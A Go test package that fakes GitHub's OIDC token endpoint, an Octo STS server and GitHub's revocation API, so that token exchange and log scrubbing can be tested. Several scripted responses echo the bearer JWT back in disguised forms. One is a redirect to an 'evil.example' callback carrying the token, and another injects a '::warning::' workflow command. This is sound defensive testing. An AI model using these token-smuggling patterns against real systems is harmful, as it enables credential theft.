// Package ststest provides loopback fakes of the three services an exchange touches (the GitHub
// Actions ID-token endpoint, an Octo STS server and the GitHub API), so unit tests, benchmarks and
// the container test all exercise the real binary against the same scripted behaviour.
package ststest

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/go-jose/go-jose/v4/jwt"

	"github.com/octo-sts/action/internal/policy"
)

// Issuer is the issuer the fake ID-token endpoint signs as (GitHub's real one, so claim output
// looks like production).
const Issuer = "https://token.actions.githubusercontent.com"

// Signer signs real RS256 JWTs so the fake STS can verify what the client sends, exactly as the
// real server would.
type Signer struct {
	key    *rsa.PrivateKey
	signer jose.Signer
}

// NewSigner makes a signer with a fresh 2048-bit key.
func NewSigner() (*Signer, error) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, err
	}
	s, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.RS256, Key: key}, (&jose.SignerOptions{}).WithType("JWT").WithHeader("kid", "fake"))
	if err != nil {
		return nil, err
	}
	return &Signer{key: key, signer: s}, nil
}

// Sign returns a compact JWT carrying claims.
func (s *Signer) Sign(claims map[string]any) (string, error) {
	return jwt.Signed(s.signer).Claims(claims).Serialize()
}

// Verify checks the signature and returns the claims.
func (s *Signer) Verify(raw string) (map[string]any, error) {
	tok, err := jwt.ParseSigned(raw, []jose.SignatureAlgorithm{jose.RS256})
	if err != nil {
		return nil, err
	}
	var claims map[string]any
	if err := tok.Claims(&s.key.PublicKey, &claims); err != nil {
		return nil, err
	}
	return claims, nil
}

// GitHubClaims are the claims a push to main in octo-org/app would carry.
func GitHubClaims() map[string]any {
	return map[string]any{
		"iss": Issuer, "sub": "repo:octo-org/app:ref:refs/heads/main",
		"repository": "octo-org/app", "repository_owner": "octo-org", "ref": "refs/heads/main",
		"event_name": "push", "actor": "octocat", "workflow": "deploy",
		"job_workflow_ref":   "octo-org/app/.github/workflows/deploy.yaml@refs/heads/main",
		"runner_environment": "github-hosted",
	}
}

func listen(addr string) (net.Listener, error) {
	if addr == "" {
		addr = "127.0.0.1:0"
	}
	return net.Listen("tcp", addr)
}

func randHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

// IDTokenServer fakes the runner's ACTIONS_ID_TOKEN_REQUEST_URL endpoint.
type IDTokenServer struct {
	*httptest.Server
	Signer       *Signer
	RequestURL   string // value for ACTIONS_ID_TOKEN_REQUEST_URL (keeps ?api-version=2.0 like the runner)
	RequestToken string // value for ACTIONS_ID_TOKEN_REQUEST_TOKEN
	Claims       map[string]any

	mu      sync.Mutex
	fail    []int // statuses to answer before succeeding; 403 answers with the 'Pending' text
	issued  []string
	OnIssue func(jwt string)
}

// NewIDTokenServer starts the fake on addr ("" = 127.0.0.1:0).
func NewIDTokenServer(addr string, signer *Signer) (*IDTokenServer, error) {
	l, err := listen(addr)
	if err != nil {
		return nil, err
	}
	s := &IDTokenServer{Signer: signer, RequestToken: "req-" + randHex(16), Claims: GitHubClaims()}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(s.serve))
	s.Listener.Close()
	s.Listener = l
	s.Start()
	s.RequestURL = s.URL + "/idtoken?api-version=2.0"
	return s, nil
}

// FailNext makes the next len(statuses) requests fail with those statuses.
func (s *IDTokenServer) FailNext(statuses ...int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.fail = append(s.fail, statuses...)
}

// Issued returns every JWT handed out so far.
func (s *IDTokenServer) Issued() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.issued...)
}

func (s *IDTokenServer) serve(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/idtoken" || r.URL.Query().Get("api-version") != "2.0" {
		http.Error(w, "bad path or lost api-version", http.StatusBadRequest)
		return
	}
	if r.Header.Get("Authorization") != "Bearer "+s.RequestToken {
		http.Error(w, "bad request token", http.StatusUnauthorized)
		return
	}
	s.mu.Lock()
	var fail int
	if len(s.fail) > 0 {
		fail, s.fail = s.fail[0], s.fail[1:]
	}
	s.mu.Unlock()
	switch fail {
	case 0:
	case http.StatusForbidden:
		http.Error(w, `{"message":"Can't issue ID_TOKEN for job in 'Pending' state"}`, fail)
		return
	default:
		http.Error(w, `{"message":"fake failure"}`, fail)
		return
	}
	claims := maps.Clone(s.Claims)
	now := time.Now()
	claims["aud"] = r.URL.Query().Get("audience")
	claims["iat"], claims["nbf"], claims["exp"] = now.Unix(), now.Unix(), now.Add(5*time.Minute).Unix()
	claims["jti"] = randHex(8)
	tok, err := s.Signer.Sign(claims)
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	s.mu.Lock()
	s.issued = append(s.issued, tok)
	hook := s.OnIssue
	s.mu.Unlock()
	if hook != nil {
		hook(tok)
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]string{"value": tok})
}

// Behaviours the fake STS can be scripted with, one per request.
const (
	OK         = "ok"
	Deny       = "403"      // 403 with a policy-mismatch message
	EchoDeny   = "403echo"  // 403 whose message echoes the bearer token back
	EchoCut    = "403cut"   // 403 echoing the token where the client's message limit cuts it
	NotFound   = "404"      // 404 like a missing policy
	RateLimit  = "429"      // 429 with Retry-After: 1
	Unavail    = "503"      // 503
	Hang       = "hang"     // never answers
	Reset      = "reset"    // TCP reset mid-request
	Oversize   = "oversize" // 200 with a huge body
	Malformed  = "malformed"
	EchoBad200 = "echo200" // 200 with a truncated body that contains the minted token
)

// Answer is a script step that answers with the server model's response for c under generation
// g (args fill its message, e.g. the identity or owner), for tests that walk every server answer.
func Answer(g policy.Generation, c policy.Code, args ...string) string {
	return strings.Join(append([]string{answerStep, string(g), string(c)}, args...), "\x00")
}

// DenyBy is a script step that answers with the 403 the server model gives the token's claims
// under policyYAML (a repository trust policy that must deny them).
func DenyBy(policyYAML string) string { return denyStep + "\x00" + policyYAML }

const answerStep, denyStep = "answer", "deny-by"

// Hostile echoes of the bearer JWT in the forms a log scrubber must see through.
const (
	EchoSplit    = "403split"    // the JWT split over two lines of the message
	EchoWrapped  = "403b64"      // the JWT base64-encoded and wrapped at 76 columns
	EchoJSONEsc  = "403jsonesc"  // every character of the JWT as a literal \uXXXX escape
	EchoURLEsc   = "403urlesc"   // every character of the JWT %-escaped, with %0A splits
	EchoLocation = "302location" // a redirect whose Location carries the JWT with %0A inside
	EchoMixed    = "403mixed"    // pieces of the JWT in a JSON "details" array and the message
)

// HostileEchoes lists every echo behaviour, for batteries that run them all.
var HostileEchoes = []string{EchoDeny, EchoCut, EchoSplit, EchoWrapped, EchoJSONEsc, EchoURLEsc, EchoLocation, EchoMixed}

func hostileEcho(w http.ResponseWriter, step, bearer string) {
	half := len(bearer) / 2
	switch step {
	case EchoSplit:
		grpcErr(w, http.StatusForbidden, 7, "bad token "+bearer[:half]+"\n"+bearer[half:])
	case EchoWrapped:
		b := base64.StdEncoding.EncodeToString([]byte("Authorization: Bearer " + bearer))
		var lines []string
		for len(b) > 76 {
			lines, b = append(lines, b[:76]), b[76:]
		}
		grpcErr(w, http.StatusForbidden, 7, "request dump:\n"+strings.Join(append(lines, b), "\n"))
	case EchoJSONEsc:
		var e strings.Builder
		for _, r := range bearer {
			fmt.Fprintf(&e, `\\u%04x`, r)
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_, _ = fmt.Fprintf(w, `{"code":7,"message":"token \"%s\" refused","details":[]}`, e.String())
	case EchoURLEsc:
		var e strings.Builder
		for i := 0; i < len(bearer); i++ {
			if i > 0 && i%30 == 0 {
				e.WriteString("%0A")
			}
			fmt.Fprintf(&e, "%%%02X", bearer[i])
		}
		grpcErr(w, http.StatusForbidden, 7, "see https://proxy.example/?t="+e.String())
	case EchoLocation:
		w.Header().Set("Location", "https://evil.example/callback?t="+url.QueryEscape(bearer[:half])+"%0A"+url.QueryEscape(bearer[half:]))
		w.WriteHeader(http.StatusFound)
	case EchoMixed:
		writeJSON(w, http.StatusForbidden, map[string]any{"code": 7, "message": "denied for " + bearer[10:60] + " / " + bearer[len(bearer)-45:], "details": []any{bearer}})
	}
}

// STS fakes an Octo STS server over TLS on loopback. It verifies the bearer JWT, the audience, the
// scope and the identity like the real server, then follows its script.
type STS struct {
	*httptest.Server
	Domain   string // host:port to use as the client's domain
	Signer   *Signer
	Audience string // required aud; default Domain
	Scope    string // expected scopes value
	Identity string // expected identity value
	Token    string // GitHub token minted on success
	// Tokens, when set, mints a distinct token per identity (several tokens in one step);
	// identities not in it are refused with 404 like a missing policy.
	Tokens map[string]string
	// Expiry, when set, is sent as the response's "expiry" (Octo STS itself sends null).
	Expiry string

	mu       sync.Mutex
	script   []string
	requests int
	done     chan struct{}
	closeOne sync.Once
	// OnMint is called with every token handed out.
	OnMint func(token string)
}

// NewSTS starts the fake on addr ("" = 127.0.0.1:0).
func NewSTS(addr string, signer *Signer, scope, identity string) (*STS, error) {
	l, err := listen(addr)
	if err != nil {
		return nil, err
	}
	s := &STS{Signer: signer, Scope: scope, Identity: identity, Token: "ghs_" + randHex(18), done: make(chan struct{})}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(s.serve))
	s.Listener.Close()
	s.Listener = l
	s.StartTLS()
	s.Domain = strings.TrimPrefix(s.URL, "https://")
	s.Audience = s.Domain
	return s, nil
}

// Close releases hanging handlers before shutting the server down.
func (s *STS) Close() {
	s.closeOne.Do(func() { close(s.done) })
	s.Server.Close()
}

// Script queues behaviours for the next requests; when it runs out the fake answers OK.
func (s *STS) Script(steps ...string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.script = append(s.script, steps...)
}

// Requests counts exchange requests received.
func (s *STS) Requests() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.requests
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

func grpcErr(w http.ResponseWriter, status, code int, msg string) {
	writeJSON(w, status, map[string]any{"code": code, "message": msg, "details": []any{}})
}

func (s *STS) serve(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/sts/exchange" || r.Method != http.MethodGet {
		grpcErr(w, http.StatusNotFound, 5, "Not Found")
		return
	}
	s.mu.Lock()
	s.requests++
	step := OK
	if len(s.script) > 0 {
		step, s.script = s.script[0], s.script[1:]
	}
	s.mu.Unlock()

	auth := r.Header.Values("Authorization")
	if len(auth) != 1 {
		answer(w, policy.CodeAuthHeader)
		return
	}
	bearer := strings.TrimPrefix(auth[0], "Bearer ")
	claims, err := s.Signer.Verify(bearer)
	if err != nil {
		answer(w, policy.CodeVerify)
		return
	}
	if exp, ok := claims["exp"].(float64); !ok || time.Unix(int64(exp), 0).Before(time.Now()) {
		answer(w, policy.CodeVerify)
		return
	}
	q := r.URL.Query()
	if len(q["scopes"]) > 1 {
		answer(w, policy.CodeMultipleScopes)
		return
	}
	scope := q.Get("scopes")
	if scope == "" {
		scope = q.Get("scope")
	}
	if scope == "" {
		answer(w, policy.CodeScopeMissing)
		return
	}
	identity := q.Get("identity")
	if identity == "" {
		answer(w, policy.CodeIdentityMissing)
		return
	}
	_, known := s.Tokens[identity]
	if (s.Tokens != nil && !known) || (s.Scope != "" && scope != s.Scope) || (s.Identity != "" && identity != s.Identity) {
		answer(w, policy.CodePolicyNotFound, identity)
		return
	}
	if aud, _ := claims["aud"].(string); aud != s.Audience {
		denyBy(w, "issuer_pattern: .*\nsubject_pattern: .*\naudience: "+strconv.Quote(s.Audience)+"\n", claims)
		return
	}

	if yaml, ok := strings.CutPrefix(step, denyStep+"\x00"); ok {
		denyBy(w, yaml, claims)
		return
	}
	if parts := strings.Split(step, "\x00"); len(parts) >= 3 && parts[0] == answerStep {
		args := make([]any, 0, len(parts)-3)
		for _, a := range parts[3:] {
			args = append(args, a)
		}
		a := policy.ExchangeAnswer(policy.Generation(parts[1]), policy.Code(parts[2]), args...)
		if a.Status == 0 {
			grpcErr(w, http.StatusInternalServerError, 13, "ststest: the model has no fixed answer for "+parts[2]+"; use DenyBy")
			return
		}
		grpcErr(w, a.Status, grpcCodes[a.Status], a.Message)
		return
	}
	switch step {
	case Deny:
		denyBy(w, "issuer_pattern: .*\nsubject: repo:octo-org/app:ref:refs/heads/release\naudience_pattern: .*\n", claims)
	case EchoDeny:
		grpcErr(w, http.StatusForbidden, 7, "bad token "+bearer+"\n::warning::injected "+bearer)
	case EchoCut:
		grpcErr(w, http.StatusForbidden, 7, strings.Repeat("x", 1000)+bearer)
	case EchoSplit, EchoWrapped, EchoJSONEsc, EchoURLEsc, EchoLocation, EchoMixed:
		hostileEcho(w, step, bearer)
	case NotFound:
		answer(w, policy.CodePolicyNotFound, identity)
	case RateLimit:
		w.Header().Set("Retry-After", "1")
		answer(w, policy.CodePolicyRateLimited, identity)
	case Unavail:
		answer(w, policy.CodeAllowlistUnavailable)
	case Hang:
		select {
		case <-r.Context().Done():
		case <-s.done:
		}
	case Reset:
		hj, ok := w.(http.Hijacker)
		if !ok {
			panic("no hijacker")
		}
		conn, _, err := hj.Hijack()
		if err != nil {
			return
		}
		if tc, ok := conn.(*tls.Conn); ok {
			if nc, ok := tc.NetConn().(*net.TCPConn); ok {
				_ = nc.SetLinger(0)
			}
		}
		conn.Close()
	case Oversize:
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"token":"` + s.mint() + `","pad":"`))
		_, _ = w.Write([]byte(strings.Repeat("x", 1<<20)))
		_, _ = w.Write([]byte(`"}`))
	case Malformed:
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<html>proxy says hi</html>"))
	case EchoBad200:
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"token":"` + s.mint() + `" "bearer":"` + bearer + `"`))
	default:
		tok := s.mint(identity)
		var exp any
		if s.Expiry != "" {
			exp = s.Expiry
		}
		writeJSON(w, http.StatusOK, map[string]any{"token": tok, "refreshToken": "", "expiry": exp})
	}
}

// mint hands out the token for identity (the one Token unless Tokens is set).
// SetToken changes the token minted from now on (the container test switches to a stateless one).
func (s *STS) SetToken(tok string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.Token = tok
}

func (s *STS) mint(identity ...string) string {
	s.mu.Lock()
	hook := s.OnMint
	tok := s.Token
	if len(identity) == 1 && s.Tokens[identity[0]] != "" {
		tok = s.Tokens[identity[0]]
	}
	s.mu.Unlock()
	if hook != nil {
		hook(tok)
	}
	return tok
}

// GitHubAPI fakes `DELETE /installation/token` so revocation can be observed.
type GitHubAPI struct {
	*httptest.Server
	// Valid lists tokens the fake accepts; others get 401 like GitHub.
	mu      sync.Mutex
	valid   map[string]bool
	revoked []string
	status  int // forced status for the next revocation (0 = normal)
	// OnRevoke is called with every revoked token.
	OnRevoke func(token string)
}

// NewGitHubAPI starts the fake on addr ("" = 127.0.0.1:0).
func NewGitHubAPI(addr string) (*GitHubAPI, error) {
	l, err := listen(addr)
	if err != nil {
		return nil, err
	}
	g := &GitHubAPI{valid: map[string]bool{}}
	g.Server = httptest.NewUnstartedServer(http.HandlerFunc(g.serve))
	g.Listener.Close()
	g.Listener = l
	g.Start()
	return g, nil
}

// Accept makes token revocable.
func (g *GitHubAPI) Accept(token string) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.valid[token] = true
}

// ForceStatus makes every following revocation answer status (0 restores normal behaviour).
func (g *GitHubAPI) ForceStatus(status int) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.status = status
}

// Revoked lists tokens revoked so far.
func (g *GitHubAPI) Revoked() []string {
	g.mu.Lock()
	defer g.mu.Unlock()
	return append([]string(nil), g.revoked...)
}

func (g *GitHubAPI) serve(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodDelete || (r.URL.Path != "/installation/token" && r.URL.Path != "/api/v3/installation/token") {
		writeJSON(w, http.StatusNotFound, map[string]string{"message": "Not Found"})
		return
	}
	tok, ok := strings.CutPrefix(r.Header.Get("Authorization"), "Bearer ")
	g.mu.Lock()
	status := g.status
	valid := ok && g.valid[tok]
	if status == 0 && valid {
		delete(g.valid, tok)
		g.revoked = append(g.revoked, tok)
	}
	hook := g.OnRevoke
	g.mu.Unlock()
	switch {
	case status != 0:
		writeJSON(w, status, map[string]string{"message": http.StatusText(status)})
	case !valid:
		writeJSON(w, http.StatusUnauthorized, map[string]string{"message": "Bad credentials"})
	default:
		if hook != nil {
			hook(tok)
		}
		w.WriteHeader(http.StatusNoContent)
	}
}

// Clock is a virtual clock: Sleep advances time instantly and records the wait, so backoff and
// Retry-After handling are tested without real delays.
type Clock struct {
	mu     sync.Mutex
	now    time.Time
	sleeps []time.Duration
}

// NewClock starts virtual time at a fixed instant.
func NewClock() *Clock { return &Clock{now: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)} }

// Now returns virtual time.
func (c *Clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// Sleep advances virtual time by d.
func (c *Clock) Sleep(ctx context.Context, d time.Duration) error {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.sleeps = append(c.sleeps, d)
	c.mu.Unlock()
	return ctx.Err()
}

// Sleeps lists every wait requested so far.
func (c *Clock) Sleeps() []time.Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]time.Duration(nil), c.sleeps...)
}

// StatelessToken is a GitHub installation token in the ~520-character stateless format
// (ghs_<app id>_<JWT>, with '.', '_' and '-'), deterministic so tests can compare it.
func StatelessToken() string {
	seg := func(n int, seed byte) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = seed + byte(i*7)
		}
		return base64.RawURLEncoding.EncodeToString(b)
	}
	tok := "ghs_123456_" + seg(27, 0xfb) + "." + seg(250, 0xf0) + "." + seg(90, 0xfe)
	for len(tok) < 520 {
		tok += "-"
	}
	return tok[:520]
}

// Recoverable returns a piece of secret (RunLen-long, 20 characters) that can be read out of
// text, raw or after undoing JSON escapes, URL escapes, line breaks or base64 — or "" when there
// is none. It is deliberately independent of package secret's scrubber, to test it.
func Recoverable(text, secret string) string {
	const runLen = 20
	views := []string{text, strings.NewReplacer("\n", "", "\r", "").Replace(text)}
	if u, err := url.PathUnescape(text); err == nil {
		views = append(views, u, strings.NewReplacer("\n", "", "\r", "").Replace(u))
	}
	views = append(views, jsonUnicode.ReplaceAllStringFunc(text, func(m string) string {
		n, _ := strconv.ParseUint(m[2:], 16, 32)
		return string(rune(n))
	}))
	// base64: every run of base64 characters (line breaks removed), decoded at each alignment.
	joined := strings.NewReplacer("\n", "", "\r", "", " ", "").Replace(text)
	for _, run := range base64Run.FindAllString(joined, -1) {
		run = strings.TrimRight(run, "=")
		for off := 0; off < 4 && off < len(run); off++ {
			r := run[off:]
			r = r[:len(r)/4*4]
			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding} {
				if b, err := enc.DecodeString(r); err == nil {
					views = append(views, string(b))
				}
			}
		}
	}
	for i := 0; i+runLen <= len(secret); i++ {
		piece := secret[i : i+runLen]
		for _, v := range views {
			if strings.Contains(v, piece) {
				return piece
			}
		}
	}
	return ""
}

var (
	jsonUnicode = regexp.MustCompile(`\\u[0-9a-fA-F]{4}`)
	base64Run   = regexp.MustCompile(`[A-Za-z0-9+/_=-]{24,}`)
)

// grpcCodes maps an HTTP status back to the gRPC code grpc-gateway puts in the body.
var grpcCodes = map[int]int{400: 3, 401: 16, 403: 7, 404: 5, 429: 8, 500: 13, 503: 14, 504: 4}

// answer writes the legacy server's answer for c, taken from the model.
func answer(w http.ResponseWriter, c policy.Code, args ...any) {
	a := policy.ExchangeAnswer(policy.Legacy, c, args...)
	grpcErr(w, a.Status, grpcCodes[a.Status], a.Message)
}

// denyBy writes the 403 the model's CheckToken matching gives the token's claims under policyYAML.
func denyBy(w http.ResponseWriter, policyYAML string, claims map[string]any) {
	tp, _, err := policy.Decode(policy.Legacy, policy.KindRepo, []byte(policyYAML))
	if err == nil {
		err = tp.Compile()
	}
	if err != nil {
		grpcErr(w, http.StatusInternalServerError, 13, "ststest: bad fake policy: "+err.Error())
		return
	}
	tok := policy.Token{Claims: claims}
	tok.Issuer, _ = claims["iss"].(string)
	tok.Subject, _ = claims["sub"].(string)
	switch a := claims["aud"].(type) {
	case string:
		tok.Audience = []string{a}
	case []any:
		for _, x := range a {
			if s, ok := x.(string); ok {
				tok.Audience = append(tok.Audience, s)
			}
		}
	}
	var d *policy.Denial // the matching rows only: the fake's scripts deny whatever the token holds
	for _, row := range tp.Rows(tok, "octo-sts.dev") {
		if d == nil {
			d = row.Denial
		}
	}
	if d == nil {
		grpcErr(w, http.StatusInternalServerError, 13, "ststest: fake policy allowed the token")
		return
	}
	grpcErr(w, d.Status, grpcCodes[d.Status], d.Message)
}
